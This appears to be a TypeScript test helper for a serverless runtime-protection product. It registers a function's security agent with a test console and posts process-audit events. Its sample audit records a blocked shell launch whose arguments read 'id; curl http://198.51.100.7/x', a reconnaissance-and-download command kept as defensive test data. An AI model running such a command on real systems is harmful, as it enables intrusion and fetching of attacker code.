import { randomBytes } from 'node:crypto';
import { request } from 'node:https';
import { decodeDefenderConfiguration, type FunctionIdentity } from '@ringfence/policy';
import type { TestConsole } from './start-test-console.ts';

type Credentials = { cookie: string } | { authorization: string };

export const convertFunction: FunctionIdentity = {
  cloud: 'aws',
  account: '123456789012',
  region: 'eu-west-1',
  name: 'convert-documents',
  runtime: 'python3.12',
  arch: 'x86_64',
};

/** Speaks to the Console as the Defender of one function does: with the token of its registration, over TLS. */
export async function registerDefender(
  console: TestConsole,
  identity: FunctionIdentity,
  credentials: Credentials,
) {
  const answer = await fetch(`${console.url}/api/functions`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', origin: console.url, ...credentials },
    body: JSON.stringify(identity),
  });
  if (!answer.ok) throw new Error(`registering answered ${answer.status}: ${await answer.text()}`);
  const { configuration } = (await answer.json()) as { configuration: string };
  const { token = '' } = decodeDefenderConfiguration(Buffer.from(configuration, 'base64url'));
  return (audits: object[]) => {
    const lines = audits.map((audit) => JSON.stringify({ ...makeAudit(identity), ...audit }));
    return post(
      `${console.defenderUrl}/api/defender/audits`,
      console.authority,
      token,
      `${lines.join('\n')}\n`,
    );
  };
}

/** A process audit in full; each test replaces what matters to it. */
export function makeAudit(identity: FunctionIdentity) {
  return {
    ringfence: 1,
    id: randomBytes(16).toString('hex'),
    time: new Date().toISOString(),
    type: 'process',
    effect: 'prevent',
    action: 'blocked',
    function: { ...identity, version: '$LATEST' },
    instance: '00112233445566ff',
    request: '8f5a3c1e-0000-4000-8000-000000000001',
    count: 1,
    message: 'python3.12 tried to start /bin/sh, which the policy does not allow',
    detail: {
      path: '/usr/bin/dash',
      requested: '/bin/sh',
      argv: ['sh', '-c', 'id; curl http://198.51.100.7/x'],
      pid: 17,
      caller: '/usr/bin/python3.12',
      call: 'execve',
      abi: 'x86_64',
      reason: 'not in the allowlist',
    },
  };
}

function post(url: string, ca: string, token: string, body: string): Promise<unknown> {
  return new Promise((resolve, reject) => {
    const headers = { authorization: `Bearer ${token}`, 'content-type': 'application/x-ndjson' };
    const outgoing = request(url, { method: 'POST', ca, headers, agent: false }, async (answer) => {
      const text = Buffer.concat(await answer.toArray()).toString();
      if (answer.statusCode === 200) resolve(JSON.parse(text));
      else reject(new Error(`posting audits answered ${answer.statusCode}: ${text}`));
    });
    outgoing.on('error', reject);
    outgoing.end(body);
  });
}
